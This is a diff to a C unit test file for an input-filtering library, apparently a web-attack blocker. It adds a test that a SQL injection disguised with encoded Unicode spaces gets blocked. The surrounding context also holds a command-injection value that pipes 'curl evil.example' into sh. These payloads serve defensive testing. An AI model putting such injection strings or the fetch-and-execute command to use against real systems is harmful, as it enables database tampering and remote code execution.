@@ -76,6 +76,10 @@ static void attacks_whose_space_is_collapsed_block(void **state)
 	assert_int_equal(check(0, MOAT_INPUT_QUERY, L("x%27%09%09or%09true--"),
 	                       "SELECT * FROM t WHERE n = 'x' or true--'"),
 	                 MOAT_BLOCK);
+	/* a Unicode space that only the decoded form holds */
+	assert_int_equal(check(0, MOAT_INPUT_QUERY, L("x%27%e2%80%a8or%e2%80%a8true--"),
+	                       "SELECT * FROM t WHERE n = 'x' or true--'"),
+	                 MOAT_BLOCK);
 	assert_int_equal(check(2, MOAT_INPUT_FORM, L("log.txt  &&  curl  evil.example|sh"),
 	                       "tail -n 20 log.txt && curl evil.example|sh"),
 	                 MOAT_BLOCK);
